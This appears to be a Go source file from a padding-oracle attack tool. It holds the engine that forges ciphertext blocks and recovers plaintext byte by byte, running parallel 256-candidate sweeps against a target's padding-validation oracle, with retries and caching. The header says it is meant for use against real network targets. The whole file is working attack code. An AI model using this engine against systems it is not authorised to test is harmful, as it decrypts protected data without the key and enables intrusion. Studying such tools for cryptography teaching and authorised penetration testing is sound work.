// Package engine ties together forge.State, oracle.Oracle, and cache.Cache
// into the actual attack: solve_block (the byte-at-a-time search every other
// operation is built from), Decryptor (parallel across target blocks), and
// Encryptor (sequential, reusing solve_block on synthetic two-block
// ciphertexts).
//
// Grounded on alesforz-cryptopals's cpaes/cbc_padding_oracle.go for the
// per-byte search shape, generalized from a single in-process oracle call to
// the retry-wrapped, cancellable Oracle interface and bounded worker pool
// this tool needs against a real network target.
package engine

import (
	"context"
	"errors"
	"fmt"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/rook-sec/padoracle/cache"
	"github.com/rook-sec/padoracle/events"
	"github.com/rook-sec/padoracle/forge"
	"github.com/rook-sec/padoracle/oracle"
	"github.com/rook-sec/padoracle/retryx"
)

// Options bundles the tunables solve_block and its callers need from the
// configured Global (package config), without engine importing config
// directly and creating an import cycle.
type Options struct {
	RetryBase      time.Duration
	MaxAttempts    int
	ByteRetryLimit int // how many full 256-value sweeps to retry before giving up on one byte
	WorkerLimit    int // bound on concurrent oracle calls within one byte search
}

// DefaultOptions returns the spec's defaults (§5: 64 worker threads, ~100ms
// Fibonacci base, 3 attempts per call).
func DefaultOptions() Options {
	return Options{
		RetryBase:      retryx.DefaultBaseDelay,
		MaxAttempts:    retryx.DefaultMaxAttempts,
		ByteRetryLimit: 3,
		WorkerLimit:    64,
	}
}

// ErrByteExhausted is returned by solveBlock when every candidate value for a
// byte position failed across all retry sweeps.
var ErrByteExhausted = errors.New("engine: exhausted retries searching for a valid byte")

// solveBlock runs the byte-at-a-time search described in spec §4.6 against a
// single ForgedBlockState, consulting the cache first and populating it on
// success.
func solveBlock(ctx context.Context, o oracle.Oracle, c *cache.Cache, opts Options, st forge.State, sink events.Sink) (forge.Solved, error) {
	key := cache.Key{Prev: st.PrevBlock(), Target: st.TargetBlock()}

	if intermediate, ok := c.Get(key); ok {
		sink.Emit(events.NewProgress(st.TargetIdx(), st.BlockSize().Len()))
		return forge.NewSolvedFromIntermediate(st.Prefix(), st.TargetIdx(), intermediate), nil
	}

	for {
		v, err := searchByte(ctx, o, opts, st, sink)
		if err != nil {
			return forge.Solved{}, fmt.Errorf("block %d byte %d: %w", st.TargetIdx(), st.CurrentByteIdx(), err)
		}

		st = st.SetCurrentByte(v)
		sink.Emit(events.WIPEvent(st.TargetIdx(), st.ForgedBlockWIP().Hex(), st.ForgedBlockWIP().ASCII()))

		outcome := st.LockByte()
		sink.Emit(events.NewProgress(st.TargetIdx(), 1))

		if outcome.Solved != nil {
			solved := *outcome.Solved
			if insertErr := c.Insert(key, solved.Intermediate()); insertErr != nil {
				sink.Emit(events.Logf(events.LevelWarn, "caching block %d: %s", solved.TargetIdx(), insertErr))
			}
			sink.Emit(events.Solved(solved.TargetIdx()))
			return solved, nil
		}

		st = *outcome.BytesLeft
	}
}

// searchByte runs the parallel 0-255 candidate search for the byte currently
// under the cursor in st, retrying the whole sweep up to opts.ByteRetryLimit
// times if no candidate is found valid (which can happen under flaky
// network conditions even though a correct value always exists).
func searchByte(ctx context.Context, o oracle.Oracle, opts Options, st forge.State, sink events.Sink) (byte, error) {
	var lastErr error
	for sweep := 1; sweep <= opts.ByteRetryLimit; sweep++ {
		v, found, err := searchByteOnce(ctx, o, opts, st)
		if err != nil {
			return 0, err
		}
		if found {
			return v, nil
		}
		lastErr = fmt.Errorf("no candidate validated on sweep %d/%d", sweep, opts.ByteRetryLimit)
		sink.Emit(events.Logf(events.LevelWarn, "block %d byte %d: %s", st.TargetIdx(), st.CurrentByteIdx(), lastErr))
	}
	if lastErr == nil {
		lastErr = ErrByteExhausted
	}
	return 0, fmt.Errorf("%w: %s", ErrByteExhausted, lastErr)
}

// searchByteOnce issues one parallel sweep over all 256 candidate values.
// The first candidate the oracle validates wins. Finding a winner does not
// cancel gctx: the remaining candidates still run, and any further valid
// result is dropped. gctx is cancelled only when a candidate returns an
// error.
func searchByteOnce(ctx context.Context, o oracle.Oracle, opts Options, st forge.State) (byte, bool, error) {
	g, gctx := errgroup.WithContext(ctx)
	g.SetLimit(workerLimit(opts))

	type result struct {
		v     byte
		found bool
	}
	found := make(chan result, 1)

	for v := 0; v < 256; v++ {
		v := v
		g.Go(func() error {
			candidate := st.SetCurrentByte(byte(v))
			blocks := candidate.Transmit()
			payload := append(blocks[0].Bytes(), blocks[1].Bytes()...)

			time.Sleep(o.ThreadDelay())

			valid, err := retryx.Do(gctx, opts.RetryBase, opts.MaxAttempts, func(int) (bool, error) {
				return o.AskValidation(gctx, payload)
			})
			if err != nil {
				if errors.Is(gctx.Err(), context.Canceled) {
					return nil
				}
				return fmt.Errorf("candidate 0x%02x: %w", v, err)
			}
			if valid {
				select {
				case found <- result{v: byte(v), found: true}:
				default:
				}
			}
			return nil
		})
	}

	err := g.Wait()

	select {
	case r := <-found:
		return r.v, r.found, nil
	default:
	}
	if err != nil {
		return 0, false, err
	}
	return 0, false, nil
}

func workerLimit(opts Options) int {
	if opts.WorkerLimit <= 0 {
		return DefaultOptions().WorkerLimit
	}
	return opts.WorkerLimit
}
